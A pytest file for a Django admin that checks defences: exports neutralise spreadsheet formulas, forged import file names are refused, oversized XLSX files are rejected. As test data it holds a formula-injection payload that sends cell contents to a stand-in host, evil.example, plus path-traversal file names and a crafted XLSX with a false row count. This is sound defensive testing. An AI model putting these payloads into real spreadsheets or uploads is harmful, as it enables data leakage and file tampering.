"""Issue 16: what a careless admin or a hostile file can do through the admin
(exports carrying formulas, imports naming files, stale forms, lost citations)."""

import csv
import io
import re
import time
from pathlib import Path

import openpyxl
import pytest
from django.utils import translation

from agencies.models import Body
from tests import factories

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture(autouse=True)
def english():
    with translation.override("en"):
        yield


def admin_export(client, fmt):
    fields = {f"bodyresource_{name}": "on" for name in ("slug", "name_vi", "note")}
    return client.post("/en/admin/agencies/body/export/", {"resource": "0", "format": fmt, **fields})


# -- item 2: admin exports never carry a live formula ---------------------------


@pytest.mark.django_db
def test_admin_csv_export_neutralises_formulas(admin_client):
    factories.BodyFactory(slug="ban-a", name_vi=FORMULA, note="+1 nữa")
    response = admin_export(admin_client, "0")
    assert response.status_code == 200
    text = b"".join(response.streaming_content if response.streaming else [response.content]).decode("utf-8-sig")
    row = next(r for r in csv.DictReader(io.StringIO(text)) if r["slug"] == "ban-a")
    assert row["name_vi"] == "'" + FORMULA
    assert row["note"] == "'+1 nữa"


@pytest.mark.django_db
def test_admin_xlsx_export_writes_formulas_as_text(admin_client):
    factories.BodyFactory(slug="ban-a", name_vi=FORMULA)
    response = admin_export(admin_client, "1")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value and "HYPERLINK" in str(cell.value)]
    assert len(cells) == 1
    assert cells[0].data_type == "s"  # text, not a formula ("f")
    assert cells[0].value == "'" + FORMULA


@pytest.mark.django_db
def test_a_neutralised_export_imports_back_unchanged(admin_client):
    from agencies.resources import BodyResource

    body = factories.BodyFactory(slug="ban-a", name_vi=FORMULA)
    exported = BodyResource().export(BodyResource().export_queryset())
    assert exported.dict[0]["name_vi"] == "'" + FORMULA
    result = BodyResource().import_data(exported, dry_run=False)
    assert not result.has_errors() and not result.has_validation_errors()
    body.refresh_from_db()
    assert body.name_vi == FORMULA


# -- item 3: the confirm step cannot name (or delete) another file -------------------

BODY_HEADER = (
    "slug,unit,name_vi,name_en,abbreviation,sector,function,founded_on,ended_on,end_reason,successor,note,sources"
)


@pytest.fixture
def pending(settings, tmp_path):
    settings.QNMERGE_PENDING_IMPORT_DIR = tmp_path / "pending"
    return tmp_path / "pending"


@pytest.fixture
def place(db):
    province = factories.ProvinceFactory()
    ha_long = factories.DistrictFactory(gso_code="193", slug="ha-long", parent=province)
    uong_bi = factories.DistrictFactory(gso_code="196", slug="uong-bi", parent=province)
    factories.SourceFactory(slug="bao-quang-ninh-1")
    return {"ha_long": ha_long, "uong_bi": uong_bi}


def upload_body_csv(client, text, name="bodies.csv"):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return client.post(
        "/en/admin/agencies/body/import/",
        {"resource": "0", "format": "0", "import_file": SimpleUploadedFile(name, text.encode("utf-8"), "text/csv")},
    )


def test_confirm_cannot_name_or_delete_another_file(admin_client, place, pending, tmp_path):
    import tempfile

    victim = Path(tempfile.gettempdir()) / f"qnmerge-victim-{tmp_path.name}"
    victim.write_text("precious")
    inside = pending / "x.upload"
    try:
        good = f"{BODY_HEADER}\nban-a,193,Ban Tổ chức,,,party,organisation,2015,,,,,bao-quang-ninh-1\n"
        preview = upload_body_csv(admin_client, good)
        initial = preview.context["confirm_form"].initial
        assert len(list(pending.glob("*.upload"))) == 1
        assert "bodies" not in initial["import_file_name"] and "/" not in initial["import_file_name"]
        inside.write_text("also precious")
        for forged in (
            victim.name,
            str(victim),
            "../" + victim.name,
            "x",
            "x.upload",
            initial["import_file_name"] + "x",
        ):
            response = admin_client.post(
                "/en/admin/agencies/body/process_import/", {**initial, "import_file_name": forged}
            )
            assert response.status_code == 302  # back to the upload form, with a message
            assert victim.read_text() == "precious" and inside.read_text() == "also precious"
        assert not Body.objects.filter(slug="ban-a").exists()
        # The real token imports once; the pending upload is then gone.
        response = admin_client.post("/en/admin/agencies/body/process_import/", initial)
        assert response.status_code == 302
        assert Body.objects.filter(slug="ban-a").exists()
        assert list(pending.glob("*.upload")) == [inside]  # the pending upload is gone, the decoy stays
        again = admin_client.post("/en/admin/agencies/body/process_import/", initial, follow=True)
        assert "no longer pending" in again.content.decode()
    finally:
        victim.unlink(missing_ok=True)


def test_a_refused_preview_keeps_no_file_and_abandoned_ones_are_swept(admin_client, place, pending):
    import os
    import time

    bad = f"{BODY_HEADER}\nban-b,999,Ban B,,,party,organisation,,,,,,\n"
    response = upload_body_csv(admin_client, bad)
    assert "No administrative unit with GSO code “999”." in response.content.decode()
    assert list(pending.glob("*.upload")) == []  # refused: nothing kept
    good = f"{BODY_HEADER}\nban-a,193,Ban A,,,party,organisation,2015,,,,,\n"
    upload_body_csv(admin_client, good)  # previewed, never confirmed
    (abandoned,) = pending.glob("*.upload")
    two_hours_ago = time.time() - 7200
    os.utime(abandoned, (two_hours_ago, two_hours_ago))
    upload_body_csv(admin_client, good)  # the next upload sweeps it
    assert abandoned.exists() is False
    assert len(list(pending.glob("*.upload"))) == 1


# -- item 4: bounded before parsing; item 11: errors say what is wrong ---------------


def xlsx_declaring(rows, real_rows=()):
    """An XLSX of a header (and `real_rows`) whose sheet declares `rows` data rows."""
    import zipfile

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(BODY_HEADER.split(","))
    for row in real_rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    source, target = zipfile.ZipFile(io.BytesIO(buffer.getvalue())), io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = re.sub(rb'<dimension ref="[^"]*"', f'<dimension ref="A1:M{rows + 1}"'.encode(), data)
            out.writestr(item, data)
    return target.getvalue()


def post_xlsx(client, content, language="en"):
    from django.core.files.uploadedfile import SimpleUploadedFile

    prefix = "/en" if language == "en" else ""
    return client.post(
        f"{prefix}/admin/agencies/body/import/",
        {"resource": "0", "format": "1", "import_file": SimpleUploadedFile("bodies.xlsx", content)},
    )


def test_an_xlsx_declaring_two_million_rows_is_refused_quickly_in_vietnamese(admin_client, place, pending):
    content = xlsx_declaring(2_000_000)
    started = time.monotonic()
    with translation.override("vi"):
        response = post_xlsx(admin_client, content, language="vi")
    assert time.monotonic() - started < 5
    assert response.status_code == 200
    html = response.content.decode()
    assert "2.000.000" in html and "20.000" in html  # the limit, QNMERGE_IMPORT_MAX_ROWS
    assert "dòng" in html  # said in Vietnamese
    assert "Traceback" not in html and "encountered" not in html
    assert not Body.objects.exists()
    assert list(pending.glob("*.upload")) == []


def test_rows_past_the_limit_are_refused_while_reading(admin_client, place, pending, settings):
    settings.QNMERGE_IMPORT_MAX_ROWS = 3
    rows = [
        [f"ban-{n}", "193", f"Ban {n}", "", "", "party", "organisation", "2015", "", "", "", "", ""] for n in range(5)
    ]
    text = BODY_HEADER + "\n" + "\n".join(",".join(row) for row in rows) + "\n"
    html = upload_body_csv(admin_client, text).content.decode()
    assert "The file has more than 3 rows" in html
    assert not Body.objects.exists()


def test_an_unreadable_file_says_what_is_wrong_without_a_traceback(admin_client, place, pending, settings):
    settings.DEBUG = False
    html = post_xlsx(admin_client, b"PK\x03\x04 not really a zip file" * 10).content.decode()
    assert "cannot be read as XLSX" in html
    assert "Traceback" not in html and "encountered" not in html and "/site-packages/" not in html


def test_a_bad_header_says_what_is_wrong_without_a_traceback(admin_client, place, pending, settings):
    settings.DEBUG = False
    html = upload_body_csv(admin_client, "slug,unit,nam_vi\nban-a,193,Ban A\n").content.decode()
    assert "The header row does not match bodies" in html
    assert "missing columns: name_vi" in html
    assert "Traceback" not in html and ".py" not in html


def test_a_missing_column_error_names_the_columns_the_file_needs(db):
    from import_export.results import Error, Result

    from agencies.resources import BodyResource

    result = Result()
    result.append_base_error(Error(KeyError("Column 'name_vi' not found in dataset. Available columns are: ['slug']")))
    BodyResource().explain_errors(result)
    message = str(result.base_errors[0].error)
    assert message.startswith("Column “name_vi” is not in the file; the file needs the columns: slug, unit, name_vi")
    with translation.override("vi"):
        result = Result()
        result.append_base_error(Error(KeyError("Column 'x' not found in dataset")))
        BodyResource().explain_errors(result)
        assert str(result.base_errors[0].error).startswith("Cột “x” không có trong tệp; tệp cần có các cột: slug, unit")
